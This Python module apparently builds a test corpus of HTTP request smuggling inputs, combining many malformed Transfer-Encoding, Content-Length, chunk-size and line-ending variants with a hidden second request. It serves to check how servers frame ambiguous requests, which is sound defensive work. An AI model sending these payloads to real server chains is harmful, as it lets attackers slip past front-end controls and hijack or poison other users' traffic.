"""Requests that two servers may frame differently, each with another request hidden in its body.

Made, not written out, since they are products: a spelling of a field times a way of using it. What
aiowsgi alone answers to such bytes is the corpus's business; here they go through another server.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: a\r\n\r\n"
_SIZE = b"%x" % len(HIDDEN)
_LENGTH = b"%d" % len(HIDDEN)
_END = b"0\r\n\r\n"

_ENCODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding:chunked",
    b"transfer-encoding:  CHUNKED ",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \x85chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: chunked\x1f",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding\r\n: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: chunked\r\n , identity",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\nX: y",
    b"Transfer-Encoding: chunked\r\r",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]

_LENGTHS = [
    b"Content-Length: %b",
    b"Content-Length: 0\r\nContent-Length: %b",
    b"Content-Length: %b\r\nContent-Length: 0",
    b"Content-Length: %b\r\nContent-Length: %b",
    b"Content-Length: 0, %b",
    b"Content-Length: %b, 0",
    b"Content-Length: %b, %b",
    b"Content-Length: %b,",
    b"Content-Length: +%b",
    b"Content-Length: -%b",
    b"Content-Length: 0%b",
    b"Content-Length: 0x%b",
    b"Content-Length: %b.0",
    b"Content-Length: 0 %b",
    b"Content-Length: %b \x0b",
    b"Content-Length: \xa0%b",
    b"Content-Length: %b\x00",
    b'Content-Length: "%b"',
    b"Content-Length: 42949672%b",
    b"Content-Length: 184467440737095516%b",
    b"Content-Length : %b",
    b"Content-Length\t: %b",
    b"Content-Length:\r\n %b",
    b"Content-Length: 0\r\n %b",
    b"X: y\r\n Content-Length: %b",
    b"X: y\nContent-Length: %b",
    b"X: y\rContent-Length: %b",
    b"Content_Length: %b",
    b"Connection: Content-Length\r\nContent-Length: %b",
    b"Connection: close, Content-Length\r\nContent-Length: %b",
    b"Expect: 100-continue\r\nContent-Length: %b",
    b"Connection: upgrade\r\nUpgrade: websocket\r\nContent-Length: %b",
]

_SIZES = [
    b"%b\r\n",
    b"%b;a=b\r\n",
    b"%b ;a=b\r\n",
    b"%b;\r\n",
    b'%b;a="\r\n',
    b'%b;a="x\\"y"\r\n',
    b"%b;a\n",
    b"%b;\nxx\r\n",
    b"%b;\rxx\r\n",
    b"%b\n",
    b"%b\r",
    b"%b\r\r\n",
    b"%b \r\n",
    b"%b\t\r\n",
    b" %b\r\n",
    b"0x%b\r\n",
    b"+%b\r\n",
    b"-%b\r\n",
    b"0_%b\r\n",
    b"%bg\r\n",
    b"%b,0\r\n",
    b"%b\x00\r\n",
    b"000000000000000000%b\r\n",
    b"1000000%b\r\n",
    b"10000000000000000%b\r\n",
    b"ffffffffffffff%b\r\n",
    b"\r\n%b\r\n",
    b"\r\n",
]

_CHUNK_ENDS = [
    b"\n0\r\n\r\n",
    b"\r0\r\n\r\n",
    b"0\r\n\r\n",
    b"xx0\r\n\r\n",
    b"\r\r\n0\r\n\r\n",
    b"\r\n0\n\n",
    b"\r\n0\r\r",
    b"\r\n00000000\r\n\r\n",
    b"\r\n0;a=b\r\n\r\n",
    b"\r\n0 \r\n\r\n",
    b"\r\n0\r\nX: y\r\n\r\n",
    b"\r\n0\r\nContent-Length: 30\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"\r\n0\r\nX: y\n\r\n",
    b"\r\n0\r\n\n",
    b"\r\n0\r\n \r\n\r\n",
    b"\r\n0\r\nGET /hidden HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\r\n0\r\nX: y\r\n",
]

_OTHERS = {
    "a length of 0 and a second request": b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
    + HIDDEN,
    "no length and a second request": b"POST / HTTP/1.1\r\nHost: a\r\n\r\n" + HIDDEN,
    "HTTP/1.0 chunked": b"POST / HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    + _END
    + HIDDEN,
    "HTTP/1.0 chunked, kept alive": b"POST / HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n" + _END + HIDDEN,
    "HTTP/1.0 without close and a second request": b"GET / HTTP/1.0\r\nHost: a\r\n\r\n" + HIDDEN,
    "HTTP/1.0 kept alive with a second request": b"GET / HTTP/1.0\r\nHost: a\r\n"
    b"Connection: keep-alive\r\n\r\n" + HIDDEN,
    "HTTP/1.2": b"GET / HTTP/1.2\r\nHost: a\r\n\r\n" + HIDDEN,
    "HTTP/0.9 with a second request": b"GET /\r\n" + HIDDEN,
    "a target with a space": b"GET / HTTP/1.1\r\nHost: a HTTP/1.1\r\nHost: a\r\n\r\n",
    "a request in the target": b"GET /\rGET /hidden HTTP/1.1\r\nHost: a\r\n\r\n",
    "absolute-form against Host": b"GET http://b/c HTTP/1.1\r\nHost: other\r\n\r\n",
    "absolute-form with Host": b"GET http://b/c?d HTTP/1.1\r\nHost: b\r\n\r\n",
    "absolute-form, a port against none": b"GET http://b:81/c HTTP/1.1\r\nHost: b\r\n\r\n",
    "absolute-form without a path": b"GET http://b HTTP/1.1\r\nHost: b\r\n\r\n",
    "absolute-form with user information": b"GET http://b@c/ HTTP/1.1\r\nHost: b\r\n\r\n",
    "two Hosts": b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "Host in a folded line": b"GET / HTTP/1.1\r\nX: y\r\n Host: b\r\nHost: a\r\n\r\n",
    "Host with a list": b"GET / HTTP/1.1\r\nHost: a, b\r\n\r\n",
    "CRLF before": b"\r\n\r\n" + HIDDEN,
    "LF before": b"\n" + HIDDEN,
    "CR before": b"\r" + HIDDEN,
    "NUL before": b"\x00" + HIDDEN,
    "CRLF between": HIDDEN + b"\r\n\r\n" + HIDDEN,
    "LF between": HIDDEN + b"\n" + HIDDEN,
    "bare LF everywhere": b"GET / HTTP/1.1\nHost: a\n\n" + HIDDEN,
    "an empty line of bare LF": b"GET / HTTP/1.1\r\nHost: a\r\n\n" + HIDDEN,
    "an empty line of CR CR LF": b"GET / HTTP/1.1\r\nHost: a\r\n\r\r\n" + HIDDEN,
    "a line of one space": b"GET / HTTP/1.1\r\nHost: a\r\n \r\n\r\n" + HIDDEN,
    "HEAD with a body": b"HEAD / HTTP/1.1\r\nHost: a\r\nContent-Length: %b\r\n\r\n" % _LENGTH
    + HIDDEN,
    "CONNECT with a request inside": b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n" + HIDDEN,
    "an Upgrade with a request behind": b"GET / HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\n"
    b"Upgrade: websocket\r\n\r\n" + HIDDEN,
    "an Upgrade to h2c": b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + HIDDEN,
    "the front's own stamp disowned": b"GET / HTTP/1.1\r\nHost: a\r\nConnection: X-Front\r\n\r\n",
    "a stamp of the client": b"GET / HTTP/1.1\r\nHost: a\r\nX-Front: 1/2 GET / a\r\n\r\n",
    "a method past US-ASCII": b"G\xcbT / HTTP/1.1\r\nHost: a\r\n\r\n" + HIDDEN,
}


class Attack(NamedTuple):
    """Bytes of one client; `name` says what is doubtful in them."""

    name: str
    raw: bytes


def _post(fields: bytes, body: bytes) -> bytes:
    return b"POST / HTTP/1.1\r\nHost: a\r\n%b\r\n\r\n%b" % (fields, body)


def both_framings(encoding: bytes) -> Iterator[Attack]:
    """Content-Length with Transfer-Encoding: one ends before HIDDEN, by the other it is a body."""
    name = repr(encoding)[2:-1]
    early, late = _END + HIDDEN, b"%b\r\n%b\r\n%b" % (_SIZE, HIDDEN, _END)
    yield Attack(
        f"CL.TE {name}", _post(b"Content-Length: %d\r\n%b" % (len(early), encoding), early)
    )
    first = len(_SIZE) + 2
    yield Attack(f"TE.CL {name}", _post(b"%b\r\nContent-Length: %d" % (encoding, first), late))


def _all() -> Iterator[Attack]:
    for encoding in _ENCODINGS:
        yield from both_framings(encoding)
        body = b"%b\r\n%b\r\n%b" % (_SIZE, HIDDEN, _END)
        yield Attack(f"TE {encoding!r}", _post(encoding, body))
    for length in _LENGTHS:
        yield Attack(f"CL {length!r}", _post(length.replace(b"%b", _LENGTH), HIDDEN))
    for size in _SIZES:
        body = size.replace(b"%b", _SIZE) + HIDDEN + b"\r\n" + _END
        yield Attack(f"chunk {size!r}", _post(_ENCODINGS[0], body))
    for end in _CHUNK_ENDS:
        body = b"%b\r\n%b%b" % (_SIZE, HIDDEN, end)
        yield Attack(f"chunks end {end!r}", _post(_ENCODINGS[0], body + HIDDEN))
    for name, raw in _OTHERS.items():
        yield Attack(name, raw)


ATTACKS = tuple(_all())
TWO_FRAMINGS = tuple(attack for line in _ENCODINGS for attack in both_framings(line))
LENGTHS = tuple(attack for attack in ATTACKS if attack.name.startswith("CL b"))
